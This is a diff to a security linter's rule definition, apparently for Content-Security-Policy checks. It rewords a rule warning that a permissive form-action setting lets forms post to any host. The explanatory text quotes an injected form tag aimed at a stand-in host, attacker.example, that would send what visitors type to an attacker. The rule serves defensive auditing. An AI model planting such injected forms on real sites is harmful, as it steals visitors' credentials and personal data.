@@ -27,11 +27,11 @@ extern const RuleSpec kRule = {
         .category = Category::Security,
         .confidence = Confidence::Certain,
         .title = "Forms may be sent to any host",
-        .message = "{0} in {1} lets forms be sent to hosts that anybody can rent.",
-        .why = "An injected <form action=\"https://attacker.example\"> around your fields, or "
-               "a formaction on a button, sends what visitors type (and what the browser "
-               "fills in) to the attacker, without any script.",
-        .advice = "Write form-action 'self' and the hosts that your forms are sent to.",
+        .message = "{0} in {1} lets forms post to any host, including an attacker's.",
+        .why = "An injected <form action=\"https://attacker.example\"> around your fields, or a "
+               "formaction on a button, sends the attacker what visitors type and what the browser "
+               "fills in. No script is needed.",
+        .advice = "Write form-action 'self' and the hosts that your forms post to.",
         .references = {"https://www.w3.org/TR/CSP3/#directive-form-action",
                        "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                        "Content-Security-Policy/form-action"},
